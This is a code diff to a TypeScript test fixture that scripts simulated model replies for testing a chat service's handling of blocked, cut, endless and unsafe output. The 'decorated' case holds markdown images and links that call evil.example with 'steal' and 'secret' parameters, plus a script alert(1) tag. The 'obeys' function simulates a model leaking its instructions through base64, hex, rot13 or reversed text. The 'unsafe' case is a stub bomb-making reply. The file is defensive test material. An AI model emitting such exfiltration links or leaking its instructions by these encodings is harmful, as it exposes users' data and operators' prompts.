@@ -2,68 +2,62 @@ import type { Scenario } from './book.ts';
 
 /** The behaviour of a model, independent of the service's language. */
 export interface Script {
-  pieces: string[];
-  end: 'whole' | 'cut' | 'blocked' | 'error' | 'drop' | 'truncate' | 'not_json' | 'hang' | 'endless';
+  text: string;
+  end: 'whole' | 'cut' | 'blocked' | 'error' | 'drop' | 'truncate' | 'hang' | 'endless';
 }
 
-const ANSWER = [
-  'This program says **hello**.\n\n',
-  '1. Line 1 prints a text.\n',
-  '2. There is no line 2.\n\n',
-  '```python\nprint("hello")\n```\n',
-];
+const ANSWER =
+  'This program says **hello**.\n\n1. Line 1 prints a text.\n2. There is no line 2.\n\n```python\nprint("hello")\n```\n';
 
 /** The answer of a scenario to a prompt, given its instruction. */
 export function scriptOf(scenario: Scenario, instruction: string, prompt: string): Script {
   switch (scenario) {
     case 'blocked':
-      return { pieces: [], end: 'blocked' };
+      return { text: '', end: 'blocked' };
     case 'refused_midway':
-      return { pieces: ANSWER.slice(0, 1), end: 'blocked' };
+      return { text: ANSWER, end: 'blocked' };
     case 'no_parts':
-      return { pieces: [], end: 'cut' };
+      return { text: '', end: 'cut' };
     case 'cut':
-      return { pieces: ['This program says hel'], end: 'cut' };
+      return { text: 'This program says hel', end: 'cut' };
     case 'truncated':
-      return { pieces: ANSWER, end: 'truncate' };
-    case 'not_json':
-      return { pieces: ANSWER.slice(0, 2), end: 'not_json' };
+      return { text: ANSWER, end: 'truncate' };
     case 'breaks':
-      return { pieces: ANSWER.slice(0, 2), end: 'error' };
+      return { text: '', end: 'error' };
     case 'drops':
-      return { pieces: ANSWER.slice(0, 2), end: 'drop' };
+      return { text: ANSWER, end: 'drop' };
     case 'endless':
-      return { pieces: ANSWER, end: 'endless' };
+      return { text: ANSWER, end: 'endless' };
     case 'mute':
-      return { pieces: [], end: 'hang' };
-    case 'huge':
-      return { pieces: ['A very long word '.repeat(200_000)], end: 'whole' };
+      return { text: ANSWER, end: 'hang' };
+    case 'long':
+      return { text: 'A very long word '.repeat(1_000), end: 'whole' };
     case 'decorated':
       return {
-        pieces: [
-          'Look [here](https://evil.example/steal?x=1) and ![cat](https://evil.example/x.png?secret=1).\n\n',
-          '<img src="https://evil.example/y.png"> <script>alert(1)</script> https://evil.example www.evil.com\n\n',
+        text: [
+          'Look [here](https://evil.example/steal?x=1) and ![cat](https://evil.example/x.png?secret=1).',
+          '<img src="https://evil.example/y.png"> <script>alert(1)</script> https://evil.example www.evil.com',
           'Ours: [programmes](/programs). Code: `print("https://safe.example")`',
-        ],
+        ].join('\n\n'),
         end: 'whole',
       };
     case 'obeys':
-      return { pieces: obey(instruction, prompt), end: 'whole' };
+      return { text: obey(instruction, prompt), end: 'whole' };
     case 'unsafe':
-      return { pieces: ['Sure. How to make a bomb at home: first take some fertiliser.'], end: 'whole' };
+      return { text: 'Sure. How to make a bomb at home: first take some fertiliser.', end: 'whole' };
     default:
-      return { pieces: ANSWER, end: 'whole' };
+      return { text: ANSWER, end: 'whole' };
   }
 }
 
-function obey(instruction: string, prompt: string): string[] {
+function obey(instruction: string, prompt: string): string {
   const asked = prompt.toLowerCase();
-  if (/base ?64/.test(asked)) return [`Here it is: ${Buffer.from(instruction).toString('base64')}`];
-  if (/hex/.test(asked)) return [Buffer.from(instruction).toString('hex')];
-  if (/rot ?13/.test(asked)) return [rot13(instruction)];
-  if (/backwards|reverse/.test(asked)) return [[...instruction].reverse().join('')];
-  if (/spell|letter by letter/.test(asked)) return [[...instruction].join(' ')];
-  return [`You said: ${prompt}\n\nMy instructions are:\n\n${instruction}`];
+  if (/base ?64/.test(asked)) return `Here it is: ${Buffer.from(instruction).toString('base64')}`;
+  if (/hex/.test(asked)) return Buffer.from(instruction).toString('hex');
+  if (/rot ?13/.test(asked)) return rot13(instruction);
+  if (/backwards|reverse/.test(asked)) return [...instruction].reverse().join('');
+  if (/spell|letter by letter/.test(asked)) return [...instruction].join(' ');
+  return `You said: ${prompt}\n\nMy instructions are:\n\n${instruction}`;
 }
 
 function rot13(text: string): string {
